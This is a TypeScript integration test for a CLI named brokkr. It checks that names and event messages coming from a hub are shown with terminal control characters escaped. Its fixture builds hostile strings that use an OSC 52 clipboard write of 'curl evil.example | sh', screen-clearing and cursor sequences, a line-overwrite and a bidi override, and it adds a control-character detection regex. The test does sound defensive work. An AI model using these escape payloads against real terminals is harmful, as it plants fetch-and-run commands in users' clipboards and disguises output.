import fs from 'node:fs/promises';
import path from 'node:path';
import { expect } from 'chai';
import { parse } from 'yaml';
import { repoRoot } from '@brokkr/infra';
import { useTestInfra } from '@brokkr/testkit';
import { buildCli, configMap, createGenerator, runCli, startHub, uniqueName, type CliResult, type TestHub } from './support.ts';

/** An OSC 52 clipboard write (the terminal copies `curl evil.example | sh` for the next paste). */
const OSC52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
/** Clear the screen; move the cursor up three lines (over the rows above); an 8-bit CSI (0x9b) clearing again. */
const CLEAR = '\x1b[2J';
const CURSOR_UP = '\x1b[3A';
const C1_CSI = '\u009b2J';
/** A carriage return: what follows overwrites the start of the line on screen. */
const OVERWRITE = '\rACTIVE  everything is fine';
/** A right-to-left override: the rest of the line shows reversed. */
const RLO = '\u202eenif';
const hostile = (what: string) => `${what}${OSC52}${CLEAR}${CURSOR_UP}${C1_CSI}${OVERWRITE}${RLO}`;

/** Anything a terminal would act on: C0 controls but newline and tab, DEL, C1 controls, bidi overrides and isolates. */
// eslint-disable-next-line no-control-regex -- the bytes under test
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function expectInert(res: CliResult, what: string): void {
  for (const [name, text] of [
    ['stdout', res.stdout],
    ['stderr', res.stderr],
  ] as const) {
    const found = CONTROL.exec(text);
    expect(found, `${what}: a control character (${JSON.stringify(found?.[0])}) on ${name}: ${JSON.stringify(text)}`).to.equal(null);
  }
}

/**
 * The review's finding: the CLI printed tenant strings raw, so a name or an event message could
 * drive the reader's terminal (OSC 52 writes the clipboard). Served by a real api, every string
 * arrives with its escapes; the CLI shows them as `\uXXXX` and writes no control byte.
 */
describe('brokkr prints hub strings with no terminal control characters (built CLI against a real hub)', () => {
  const infra = useTestInfra({ nats: true });
  let hub: TestHub;
  let agent: { id: string; name: string };
  let stackId: string;

  before(async function () {
    this.timeout(180_000);
    await buildCli();
    hub = await startHub(infra);
    const generator = await createGenerator(hub);
    agent = { id: '', name: hostile(uniqueName('agent')) };
    const created = await hub.admin.post('/agents', { name: agent.name, cluster_name: hostile('cluster'), generator_ids: [generator.id] });
    expect(created.status, created.text).to.equal(201);
    agent.id = created.body.agent.id;
    const twin = await hub.admin.post('/agents', {
      name: agent.name,
      cluster_name: hostile('twin-cluster'),
      generator_ids: [generator.id],
    });
    expect(twin.status, twin.text).to.equal(201);
    const stack = await hub.admin.post('/stacks', {
      name: hostile(uniqueName('stack')),
      description: hostile('about'),
      generator_id: generator.id,
    });
    expect(stack.status, stack.text).to.equal(201);
    stackId = stack.body.id;
    expect((await hub.admin.post(`/agents/${agent.id}/targets`, { agent_id: agent.id, stack_id: stackId })).status).to.equal(201);
    const object = await hub.admin.post(`/stacks/${stackId}/deployment-objects`, { yaml_content: configMap('cm', '1') });
    expect(object.status, object.text).to.equal(201);
    const event = {
      agent_id: agent.id,
      deployment_object_id: object.body.id,
      event_type: 'APPLIED',
      status: 'FAILURE',
      message: hostile('apply failed'),
    };
    expect((await hub.admin.post(`/agents/${agent.id}/events`, event)).status).to.equal(201);
  });

  after(async () => {
    await hub?.stop();
  });

  const cli = (...args: string[]) => runCli(args, { env: hub.env() });

  it('get stacks / get agents: names, clusters and descriptions show their escapes as \\uXXXX, one row each', async () => {
    for (const kind of ['stacks', 'agents']) {
      const res = await cli('get', kind);
      expect(res.code, res.stderr).to.equal(0);
      expectInert(res, `get ${kind}`);
      expect(res.stdout).to.include('\\u001b]52;c;').and.include('\\u0007').and.include('\\u001b[2J').and.include('\\u009b2J');
      expect(res.stdout).to.include('\\u000dACTIVE  everything is fine\\u202eenif');
    }
    const agents = (await cli('get', 'agents')).stdout.trimEnd().split('\n');
    expect(agents, 'a header and the two agents, no forged row').to.have.length(3);
  });

  it('describe agent and describe stack: fields, stacks and event messages are inert', async () => {
    const agentText = await cli('describe', 'agent', agent.id);
    expect(agentText.code, agentText.stderr).to.equal(0);
    expectInert(agentText, 'describe agent');
    expect(agentText.stdout).to.match(/FAILURE\s+apply failed\\u001b]52;c;/);
    const stackText = await cli('describe', 'stack', stackId);
    expect(stackText.code, stackText.stderr).to.equal(0);
    expectInert(stackText, 'describe stack');
    expect(stackText.stdout).to.match(/Description:\s+about\\u001b]52;c;/);
  });

  it('errors naming hub strings on stderr are inert (two agents share the hostile name)', async () => {
    const res = await cli('describe', 'agent', agent.name);
    expect(res.code).to.equal(1);
    expectInert(res, 'an ambiguous name');
    expect(res.stderr).to.match(/^error: 2 agents are named ".*\\u001b]52;c;/m);
  });

  it('-o json and -o yaml still parse back to exactly the hub objects, escapes and all', async () => {
    const fromApi = (await hub.admin.get('/agents')).body;
    const json = await cli('get', 'agents', '-o', 'json');
    expectInert(json, '-o json');
    expect(JSON.parse(json.stdout)).to.deep.equal(fromApi);
    const yaml = await cli('get', 'agents', '-o', 'yaml');
    expectInert(yaml, '-o yaml');
    expect(parse(yaml.stdout)).to.deep.equal(fromApi);
    const described = await cli('describe', 'agent', agent.id, '-o', 'yaml');
    expectInert(described, 'describe -o yaml');
    expect(parse(described.stdout).events[0].message).to.equal(hostile('apply failed'));
  });

  it('no source file of the CLI writes to the terminal except through terminal.ts', async () => {
    const dir = path.join(repoRoot, 'tools', 'cli', 'src');
    const files = (await fs.readdir(dir, { recursive: true })).filter((f) => f.endsWith('.ts') && f !== 'terminal.ts');
    for (const file of files) {
      const text = await fs.readFile(path.join(dir, file), 'utf8');
      expect(text, `${file} writes around terminal.ts`).to.not.match(/process\.(stdout|stderr)|console\./);
    }
  });
});
